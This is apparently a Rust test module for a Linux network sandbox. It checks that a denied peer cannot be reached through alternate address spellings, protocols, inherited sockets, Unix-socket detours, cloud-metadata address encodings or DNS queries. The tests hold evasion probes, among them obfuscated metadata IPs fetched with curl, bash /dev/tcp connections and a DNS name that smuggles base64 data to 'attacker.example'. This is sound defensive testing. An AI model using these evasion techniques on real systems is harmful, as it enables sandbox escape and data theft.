//! Reaching a peer that is denied, by whatever socket, spelling or message.

use std::{
    net::{SocketAddr, TcpListener, UdpSocket},
    os::{
        linux::net::SocketAddrExt as _,
        unix::{
            fs::symlink,
            net::{SocketAddr as UnixAddress, UnixDatagram, UnixListener},
        },
    },
    process::{Command, Stdio},
    sync::{
        Arc, Mutex,
        atomic::{AtomicBool, Ordering},
    },
    time::Duration,
};

use anyhow::{Result, bail};

use crate::{
    harness::{
        Attempt, Escape, Expected, Ground, Outcome, Policy, Try, allow, attempt, connect, deny,
        steps, way,
    },
    scenarios,
};

scenarios![
    a_denied_peer_is_not_reached_by_another_spelling_or_message,
    a_denied_peer_is_not_reached_by_another_protocol_or_family,
    a_connection_that_was_there_before_carries_nothing,
    only_the_loopback_address_that_is_allowed_is_reached,
    metadata_is_not_reached_by_any_spelling,
    no_data_leaves_in_the_names_that_are_asked_for,
    a_denied_unix_socket_is_not_reached_by_a_detour,
    no_denied_address_is_bound,
];

/// Whom nobody in the sandbox may reach; another address of this host's loopback network.
const BAD: &str = "127.0.0.9";
/// A shell's words that ask by HTTP, and are content if somebody was there who says nothing.
fn curl(url: &str) -> [String; 3] {
    let script = format!("curl -s --noproxy '*' --max-time 2 {url}; test $? = 28");
    ["sh".into(), "-c".into(), script]
}

/// Whom anyone may.
const FINE: &str = "127.0.0.1";

/// A place with listeners.
pub(super) struct Peers {
    pub(super) ground: Ground,
    tcp: Vec<TcpListener>,
    udp: Vec<UdpSocket>,
    unix: Vec<UnixListener>,
    datagrams: Vec<UnixDatagram>,
}

impl Peers {
    pub(super) fn new() -> Result<Self> {
        Ok(Self {
            ground: Ground::new()?,
            tcp: Vec::new(),
            udp: Vec::new(),
            unix: Vec::new(),
            datagrams: Vec::new(),
        })
    }

    pub(super) fn tcp(&mut self, address: &str) -> Result<()> {
        self.tcp.push(TcpListener::bind(address)?);
        Ok(())
    }

    fn udp(&mut self, address: &str) -> Result<()> {
        self.udp.push(UdpSocket::bind(address)?);
        Ok(())
    }

    /// Another address for this host.
    pub(super) fn address(&mut self, address: &str) -> Result<()> {
        // Without waiting whether another host has it.
        let nodad: &[&str] = if address.contains(':') {
            &["nodad"]
        } else {
            &[]
        };
        let added = Command::new("ip")
            .args(["address", "add", address, "dev", "lo"])
            .args(nodad)
            .status()?;
        if !added.success() {
            bail!("ip address add {address}");
        }
        let address = address.to_owned();
        self.ground.undo(move || {
            let _ = Command::new("ip")
                .args(["address", "del", &address, "dev", "lo"])
                .status();
        });
        Ok(())
    }

    fn tcp_port(&self, number: usize) -> Result<u16> {
        Ok(self.tcp[number].local_addr()?.port())
    }
}

/// Nothing but one address may be contacted.
fn fine_alone(_: &Peers) -> Policy {
    Policy::open()
        .default("connect", "deny")
        .rule(allow("fine").connect(FINE))
}

fn by_default(transport: &str, address: &str) -> Expected {
    connect("defaults.connect", transport, address)
}

fn a_denied_peer_is_not_reached_by_another_spelling_or_message() -> Result<Outcome> {
    let ground = || {
        let mut peers = Peers::new()?;
        peers.tcp(&format!("{BAD}:0"))?;
        peers.udp(&format!("{BAD}:0"))?;
        peers.udp(&format!("{FINE}:0"))?;
        peers.udp(&format!("{BAD}:53"))?;
        peers.udp(&format!("{BAD}:443"))?;
        peers.address("2001:db8::10/128")?;
        peers.tcp("[2001:db8::10]:443")?;
        peers.udp("[2001:db8::10]:443")?;
        let peer = peers.tcp[0].local_addr()?.to_string();
        peers.ground.helper("prot/config", &peer)?;
        Ok(peers)
    };
    let ways = |peers: &Peers| {
        let port = peers.tcp_port(0).unwrap_or_default();
        let to = |number: usize| {
            let address = peers.udp[number].local_addr();
            address.map_or_else(|_| String::new(), |address| address.to_string())
        };
        let (bad, fine) = (to(0), to(1));
        let mapped = |port: u16| format!("[::ffff:{BAD}]:{port}");
        let tcp = |what, verb, address: String| {
            way(what, attempt(verb, &[address])).on_record(by_default("tcp", BAD).port(port))
        };
        let udp = |what, verb, address: &str| {
            way(what, attempt(verb, &[address])).on_record(by_default("udp", BAD))
        };
        let two =
            |what, verb| way(what, attempt(verb, &[&bad, &fine])).on_record(by_default("udp", BAD));
        let six = |what, attempt: Attempt, transport| {
            way(what, attempt).on_record(by_default(transport, "2001:db8::10").port(443))
        };
        vec![
            tcp("connect", "tcp", format!("{BAD}:{port}")),
            way(
                "g-37 curl without its proxy",
                attempt("command", &curl(&format!("http://{BAD}:{port}"))),
            )
            .on_record(by_default("tcp", BAD).port(port))
            .or_ends("status 1"),
            tcp("g-38 an IPv4-mapped address", "tcp", mapped(port)),
            tcp(
                "g-40 MSG_FASTOPEN by sendto",
                "tcp-fastopen",
                format!("{BAD}:{port}"),
            ),
            tcp(
                "g-40 MSG_FASTOPEN by sendmsg",
                "tcp-fastopen-sendmsg",
                format!("{BAD}:{port}"),
            ),
            tcp(
                "g-40 MSG_FASTOPEN to a mapped address",
                "tcp-fastopen",
                mapped(port),
            ),
            tcp(
                "g-40 TCP_FASTOPEN_CONNECT",
                "tcp-fastopen-connect",
                format!("{BAD}:{port}"),
            ),
            tcp("io_uring: CONNECT", "ring-tcp", format!("{BAD}:{port}")),
            udp("g-39 connect of UDP", "udp-connect", &bad),
            udp("g-39 sendto, port 53", "udp-send", &to(2)),
            udp("g-39 sendto, port 443", "udp-send", &to(3)),
            udp("g-39 sendmsg", "udp-sendmsg", &bad),
            udp("g-39 sendmmsg", "udp-sendmmsg", &bad),
            udp("io_uring: SENDMSG", "ring-udp-send", &bad),
            udp("io_uring: SEND_ZC", "ring-udp-send-zero-copy", &bad),
            udp("an address of no family", "udp-send-unspecified", &bad),
            two(
                "sendto by a socket that is connected elsewhere",
                "udp-send-elsewhere",
            ),
            // The packet goes to the hop first. Who it names is what the rules see, so there may be no line.
            way(
                "loose source routing",
                attempt("udp-send-by-way-of", &[&bad, &fine]),
            ),
            way(
                "a flow label, which may keep a route",
                attempt::<&str>("flow-label", &[]),
            ),
            way(
                "loose source routing, sent along",
                attempt("udp-send-with-a-way", &[&bad, &fine]),
            ),
            six(
                "g-51 IPv6 where rules name IPv4: TCP",
                attempt("tcp", &["[2001:db8::10]:443"]),
                "tcp",
            ),
            six(
                "g-51 IPv6 where rules name IPv4: UDP",
                attempt("udp-send", &["[2001:db8::10]:443"]),
                "udp",
            ),
            way(
                "a connection that a process outside sends (SCM_RIGHTS)",
                attempt("write-received", &[&peers.ground.outside(0).socket, "peer"]),
            )
            .or_ends("ENOBUFS"),
            way(
                "g-34 an interpreter that is allowed",
                attempt(
                    "command",
                    &[
                        "python3",
                        "-c",
                        &format!("import socket; socket.create_connection(('{BAD}', {port}))"),
                    ],
                ),
            )
            .on_record(by_default("tcp", BAD).port(port))
            .or_ends("status 1"),
            way(
                "g-47 a daemon in its own session",
                attempt("as", &["daemon", "tcp", &format!("{BAD}:{port}")]),
            )
            .by_anyone()
            .on_record(by_default("tcp", BAD).port(port)),
        ]
    };
    // The helper is reached over a Unix socket.
    let policy = |peers: &Peers| {
        let sockets = format!("unix:{}/**", peers.ground.text("ws"));
        fine_alone(peers).rule(allow("helper").connect(sockets))
    };
    Escape::new(&ground, &policy, &ways).check("network.messages")
}

/// Listens by families and protocols that the standard library has not: says the ports, and waits for its input's end.
const LISTEN: &str = r"
import socket, sys
def listen(*kind, at):
    try:
        s = socket.socket(*kind)
        s.bind(at)
        if kind[0] != socket.AF_NETLINK: s.listen()
        return s
    except OSError as e:
        print(kind, e, file=sys.stderr)
bad = sys.argv[1]
kept = [
    listen(socket.AF_INET, socket.SOCK_STREAM, 132, at=(bad, 4444)),
    listen(socket.AF_VSOCK, socket.SOCK_STREAM, at=(socket.VMADDR_CID_ANY, 1025)),
    listen(socket.AF_NETLINK, socket.SOCK_DGRAM, 2, at=(4242, 0)),
]
print('ready', flush=True)
sys.stdin.read()
";

impl Peers {
    /// Starts who listens by other families.
    fn others(&mut self) -> Result<()> {
        let mut child = Command::new("python3")
            .args(["-c", LISTEN, BAD])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()?;
        if let Some(stdout) = &mut child.stdout {
            std::io::Read::read_exact(stdout, &mut [0; 5])?;
        }
        let child = Mutex::new(child);
        self.ground.undo(move || {
            if let Ok(mut child) = child.lock() {
                let _ = child.kill();
                let _ = child.wait();
            }
        });
        self.echoes()
    }

    /// Lets anyone ask for an echo without being privileged.
    pub(super) fn echoes(&mut self) -> Result<()> {
        let groups = "/proc/sys/net/ipv4/ping_group_range";
        let before = std::fs::read_to_string(groups)?;
        std::fs::write(groups, "0 1000")?;
        self.ground.undo(move || {
            let _ = std::fs::write(groups, before.trim());
        });
        Ok(())
    }

    /// Starts a server of names.
    pub(super) fn names(&mut self, address: &str) -> Result<()> {
        let server = UdpSocket::bind(address)?;
        server.set_read_timeout(Some(Duration::from_millis(50)))?;
        let stop = Arc::new(AtomicBool::new(false));
        let stopped = Arc::clone(&stop);
        let thread = Mutex::new(Some(std::thread::spawn(move || answer(&server, &stopped))));
        self.ground.undo(move || {
            stop.store(true, Ordering::Relaxed);
            let thread = thread.lock().ok().and_then(|mut thread| thread.take());
            let _ = thread.map(std::thread::JoinHandle::join);
        });
        Ok(())
    }
}

fn a_denied_peer_is_not_reached_by_another_protocol_or_family() -> Result<Outcome> {
    let ground = || {
        let mut peers = Peers::new()?;
        peers.others()?;
        peers.tcp(&format!("{BAD}:0"))?;
        peers.udp(&format!("{BAD}:0"))?;
        peers.udp(&format!("{FINE}:0"))?;
        Ok(peers)
    };
    let ways = |peers: &Peers| {
        let text = |address: std::io::Result<SocketAddr>| {
            address.map_or_else(|_| String::new(), |address| address.to_string())
        };
        let tcp = text(peers.tcp[0].local_addr());
        let udp = text(peers.udp[0].local_addr());
        let fine = text(peers.udp[1].local_addr());
        let one = |what, verb, address: &str| way(what, attempt(verb, &[address]));
        let none = |what, verb| way(what, attempt::<&str>(verb, &[]));
        vec![
            one("MPTCP", "mptcp", &tcp).where_there_is("CONFIG_MPTCP"),
            one("SCTP", "sctp", &format!("{BAD}:4444")).where_there_is("SCTP"),
            one("SCTP CONNECTX", "sctp-connectx", &format!("{BAD}:4444")).where_there_is("SCTP"),
            one("UDP-Lite", "udplite", &udp).where_there_is("UDP-Lite (gone since Linux 7.1)"),
            one("ICMP by a datagram socket", "ping", &format!("{BAD}:0")),
            one("ICMP by a raw socket", "raw-icmp", &format!("{BAD}:0")),
            one("g-46 UDP by a raw socket", "raw-udp", &udp),
            way(
                "g-46 a raw socket's own header, another address named",
                attempt("raw-header", &[&udp, &fine]),
            ),
            none("g-46 a raw socket, made", "raw-open"),
            none("g-46 a packet socket, made", "packet-open").where_there_is("CONFIG_PACKET"),
            one("g-46 a packet socket's frame", "packet-send", &udp)
                .where_there_is("CONFIG_PACKET"),
            none("AF_ALG", "algorithm").where_there_is("CONFIG_CRYPTO_USER_API_HASH"),
            none("vsock to this host", "vsock-connect").where_there_is("CONFIG_VSOCKETS_LOOPBACK"),
            one("netlink to another process", "netlink-peer", "4242"),
        ]
    };
    Escape::new(&ground, &fine_alone, &ways).check("network.protocols")
}

fn a_connection_that_was_there_before_carries_nothing() -> Result<Outcome> {
    const PORT: u16 = 4646;
    let ground = || {
        let mut peers = Peers::new()?;
        peers.tcp(&format!("{BAD}:{PORT}"))?;
        peers.udp(&format!("{BAD}:{PORT}"))?;
        peers.ground.directory("run")?;
        peers
            .unix
            .push(UnixListener::bind(peers.ground.path("run/daemon.sock"))?);
        Ok(peers)
    };
    // The shell connects, and becomes what is to run.
    let wrapper = |peers: &Peers| -> Vec<String> {
        const CONNECTED: &str = "import os, socket, sys; s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); \
            os.dup2(s.fileno(), 9); os.execvp(sys.argv[2], sys.argv[2:])";
        let script = format!(
            "exec 7<>/dev/tcp/{BAD}/{PORT} 8<>/dev/udp/{BAD}/{PORT}; exec python3 -c '{CONNECTED}' \"$@\""
        );
        let daemon = peers.ground.text("run/daemon.sock");
        ["bash", "-c", &script, "bash", &daemon]
            .map(str::to_owned)
            .to_vec()
    };
    let ways = |_: &Peers| {
        vec![
            // Neither is there any more when the command begins; the lines are about the first process.
            way("an inherited connection", attempt("write-open", &["7"]))
                .or_ends("EBADF")
                .by_anyone(),
            way(
                "an inherited, connected datagram socket",
                attempt("write-open", &["8"]),
            )
            .or_ends("EBADF")
            .by_anyone(),
            way(
                "an inherited, connected Unix socket",
                attempt("write-open", &["9"]),
            )
            .or_ends("EBADF")
            .by_anyone(),
        ]
    };
    let run = |peers: &Peers, run: crate::harness::Run| run.wrapped(&wrapper(peers));
    Escape {
        run: &run,
        outside: &wrapper,
        ..Escape::new(&ground, &fine_alone, &ways)
    }
    .check("network.inherited")
}

fn only_the_loopback_address_that_is_allowed_is_reached() -> Result<Outcome> {
    let ground = || {
        let mut peers = Peers::new()?;
        peers.tcp("[::]:0")?;
        peers.tcp("127.0.0.1:0")?;
        Ok(peers)
    };
    let policy = |peers: &Peers| {
        Policy::open().default("connect", "deny").rule(
            allow("fine")
                .connect("127.0.0.1")
                .port(peers.tcp_port(1).unwrap_or_default()),
        )
    };
    let ways = |peers: &Peers| {
        let port = peers.tcp_port(0).unwrap_or_default();
        let to = |what, spelling: &str, recorded: &str| {
            way(what, attempt("tcp", &[format!("{spelling}:{port}")]))
                .on_record(by_default("tcp", recorded).port(port))
        };
        vec![
            to("another port", "127.0.0.1", "127.0.0.1"),
            to("g-41 127.0.0.2", "127.0.0.2", "127.0.0.2"),
            to("g-41 0.0.0.0", "0.0.0.0", "0.0.0.0"),
            to("g-41 ::1", "[::1]", "::1"),
            to("g-41 ::", "[::]", "::"),
            to("g-41 ::ffff:127.0.0.1", "[::ffff:127.0.0.1]", "127.0.0.1"),
            to("g-41 ::ffff:0.0.0.0", "[::ffff:0.0.0.0]", "0.0.0.0"),
        ]
    };
    Escape::new(&ground, &policy, &ways).check("network.loopback")
}

fn metadata_is_not_reached_by_any_spelling() -> Result<Outcome> {
    let ground = || {
        let mut peers = Peers::new()?;
        peers.address("169.254.169.254/32")?;
        peers.address("fd00:ec2::254/128")?;
        peers.tcp("169.254.169.254:80")?;
        peers.tcp("[fd00:ec2::254]:80")?;
        Ok(peers)
    };
    // Link-local is allowed otherwise.
    let policy = |_: &Peers| {
        Policy::open()
            .rule(allow("link-local").connect("169.254.0.0/16"))
            .rule(deny("metadata").connect("169.254.169.254"))
            .rule(deny("metadata.6").connect("fd00:ec2::254"))
    };
    let ways = |_: &Peers| {
        let (four, six) = ("169.254.169.254", "fd00:ec2::254");
        let tcp = |what, spelling: &str, rule, recorded: &str| {
            way(what, attempt("tcp", &[format!("{spelling}:80")]))
                .on_record(connect(rule, "tcp", recorded).port(80))
        };
        let curl = |what, spelling: &str| {
            way(
                what,
                attempt("command", &curl(&format!("http://{spelling}:80"))),
            )
            .on_record(connect("metadata", "tcp", four).port(80))
            .or_ends("status 1")
        };
        vec![
            tcp("g-42 169.254.169.254", four, "metadata", four),
            tcp(
                "g-42 ::ffff:169.254.169.254",
                "[::ffff:169.254.169.254]",
                "metadata",
                four,
            ),
            tcp("g-42 fd00:ec2::254", "[fd00:ec2::254]", "metadata.6", six),
            curl("g-42 its decimal form, by curl", "2852039166"),
            curl("g-42 its hexadecimal form, by curl", "0xA9FEA9FE"),
            curl("g-42 its octal form, by curl", "0251.0376.0251.0376"),
        ]
    };
    Escape::new(&ground, &policy, &ways).check("network.metadata")
}

fn no_data_leaves_in_the_names_that_are_asked_for() -> Result<Outcome> {
    let ground = || {
        let mut peers = Peers::new()?;
        peers.tcp(&format!("{BAD}:53"))?;
        peers.names(&format!("{BAD}:53"))?;
        // Seen by who is in our mount namespace, and by nobody else.
        let file = peers.ground.path("ws/resolv.conf");
        crate::harness::write(
            &file,
            format!("nameserver {BAD}\noptions timeout:2 attempts:1\n"),
        )?;
        let flags = nix::mount::MsFlags::MS_BIND;
        let target = "/etc/resolv.conf";
        nix::mount::mount(Some(&file), target, None::<&str>, flags, None::<&str>)?;
        peers.ground.undo(move || {
            let _ = nix::mount::umount(target);
        });
        Ok(peers)
    };
    let ways = |_: &Peers| {
        let name = "c2VjcmV0.x.attacker.example";
        let server = format!("{BAD}:53");
        vec![
            way("g-43 a question by UDP", attempt("ask", &[&server, name]))
                .on_record(by_default("udp", BAD).port(53)),
            way("g-43 port 53 by TCP", attempt("tcp", &[&server]))
                .on_record(by_default("tcp", BAD).port(53)),
            way(
                "g-43 the system's resolver",
                attempt(
                    "command",
                    &[
                        "python3",
                        "-c",
                        &format!("import socket; socket.gethostbyname('{name}')"),
                    ],
                ),
            )
            .on_record(by_default("udp", BAD).port(53))
            .or_ends("status 1"),
        ]
    };
    Escape::new(&ground, &fine_alone, &ways).check("network.names")
}

/// Answers each question with an address (RFC 1035), until it is told to stop.
fn answer(server: &UdpSocket, stop: &AtomicBool) {
    let mut question = [0; 512];
    while !stop.load(Ordering::Relaxed) {
        let Ok((length, from)) = server.recv_from(&mut question) else {
            continue;
        };
        let mut answer = question[..length].to_vec();
        if length < 12 {
            continue;
        }
        // A response, recursion available; one answer, nothing else.
        answer[2] = 0x81;
        answer[3] = 0x80;
        answer[6..12].copy_from_slice(&[0, 1, 0, 0, 0, 0]);
        // What else the question has, such as EDNS, is left out.
        let end = question[12..length].iter().position(|byte| *byte == 0);
        let Some(end) = end else { continue };
        answer.truncate(12 + end + 5);
        answer.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 192, 0, 2, 1]);
        let _ = server.send_to(&answer, from);
    }
}

fn a_denied_unix_socket_is_not_reached_by_a_detour() -> Result<Outcome> {
    // The same for those outside and those inside, and gone in between.
    const NAME: &str = "opensafe-escape";
    let ground = || {
        let mut peers = Peers::new()?;
        peers.ground.directory("run")?;
        peers
            .unix
            .push(UnixListener::bind(peers.ground.path("run/daemon.sock"))?);
        peers
            .datagrams
            .push(UnixDatagram::bind(peers.ground.path("run/log.sock"))?);
        let name = UnixAddress::from_abstract_name(NAME)?;
        peers.unix.push(UnixListener::bind_addr(&name)?);
        let name = UnixAddress::from_abstract_name(format!("{NAME}-log"))?;
        peers.datagrams.push(UnixDatagram::bind_addr(&name)?);
        symlink(
            peers.ground.path("run/daemon.sock"),
            peers.ground.path("ws/link"),
        )?;
        peers.ground.directory("ws/m")?;
        Ok(peers)
    };
    let policy = |peers: &Peers| {
        Policy::open()
            .rule(deny("daemons").connect(format!("unix:{}/**", peers.ground.text("run"))))
            .rule(deny("abstract").connect(format!("unix:@{NAME}*")))
            // Who may not open it may not reach it either, and reverse.
            .rule(deny("files").below(peers.ground.path("run")))
    };
    let ways = |peers: &Peers| {
        let t = |name: &str| peers.ground.text(name);
        let daemon = t("run/daemon.sock");
        let by_path = |what, attempt: Attempt| -> Try {
            way(what, attempt).on_record(connect("daemons", "unix", &daemon))
        };
        vec![
            by_path("g-44 its path", attempt("unix-stream", &[&daemon])),
            by_path(
                "a symbolic link to it",
                attempt("unix-stream", &[t("ws/link")]),
            ),
            by_path(
                "a relative name",
                steps(&[&["chdir", &t("run")], &["unix-stream", "daemon.sock"]]),
            ),
            by_path(
                "/proc/self/root",
                attempt("unix-stream", &[format!("/proc/self/root{daemon}")]),
            ),
            by_path(
                "/proc/self/fd of an O_PATH descriptor",
                attempt("unix-by-descriptor", &[&daemon]),
            ),
            way(
                "a bind mount of its directory",
                steps(&[
                    &["private-bind", &t("run"), &t("ws/m")],
                    &["unix-stream", &t("ws/m/daemon.sock")],
                ]),
            ),
            way(
                "a hard link to it",
                steps(&[
                    &["link", &daemon, &t("ws/hard")],
                    &["unix-stream", &t("ws/hard")],
                ]),
            ),
            way(
                "g-44 a datagram to its path",
                attempt("unix-send", &[t("run/log.sock")]),
            )
            .on_record(connect("daemons", "unix", t("run/log.sock"))),
            way(
                "g-45 an abstract name",
                attempt("unix-stream", &[format!("@{NAME}")]),
            )
            .on_record(connect("abstract", "unix", format!("@{NAME}"))),
            way(
                "g-45 a datagram to an abstract name",
                attempt("unix-send", &[format!("@{NAME}-log")]),
            )
            .on_record(connect("abstract", "unix", format!("@{NAME}-log"))),
        ]
    };
    Escape::new(&ground, &policy, &ways).check("network.unix")
}

fn no_denied_address_is_bound() -> Result<Outcome> {
    const PORT: u16 = 4545;
    let policy = |_: &Ground| {
        Policy::open().rule(
            deny("no.server")
                .with("on", "bind".into())
                .with("match", "*".into()),
        )
    };
    let ways = |_: &Ground| {
        let bind =
            |what, verb, address: &str| way(what, attempt(verb, &[format!("{address}:{PORT}")]));
        vec![
            bind("TCP, an address", "bind-tcp", "127.0.0.1"),
            bind("TCP, every address", "bind-tcp", "0.0.0.0"),
            bind("TCP, every IPv6 address", "bind-tcp", "[::]"),
            bind("TCP, a mapped address", "bind-tcp", "[::ffff:127.0.0.1]"),
            bind("UDP", "bind-udp", "127.0.0.1"),
            bind(
                "an address that is not this host's (IP_TRANSPARENT)",
                "bind-foreign",
                "192.0.2.9",
            ),
            way(
                "listen without bind",
                attempt::<&str>("listen-unbound", &[]),
            ),
        ]
    };
    let ground = Ground::new;
    Escape::new(&ground, &policy, &ways).check("network.bind")
}
